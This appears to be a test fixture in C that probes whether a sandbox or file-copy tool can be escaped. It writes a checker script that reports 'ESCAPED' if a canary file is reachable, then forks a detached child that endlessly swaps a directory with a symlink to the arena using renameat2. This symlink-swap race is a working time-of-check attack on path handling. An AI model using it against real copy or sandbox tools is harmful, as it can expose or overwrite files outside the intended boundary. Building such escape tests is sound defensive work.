/* A child goes on flipping for as long as it lives; whatever of it is copied must be ours. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    FILE *program = fopen("program", "w");
    fputs("for f in /program/flip*/world.txt /program/other*/world.txt; do\n"
          "  [ -e \"$f\" ] && grep -q CANARY \"$f\" && echo \"ESCAPED: $f\"\n"
          "done\n"
          "echo done\n", program);
    fclose(program);
    unlink("flip");
    mkdir("flipping", 0755);
    mknod("flipping/world.txt", S_IFREG | 0644, 0);
    symlink("@ARENA@", "other");
    if (fork()) return usleep(20000) * 0;
    setsid();
    for (;;) renameat2(AT_FDCWD, "flipping", AT_FDCWD, "other", RENAME_EXCHANGE);
}
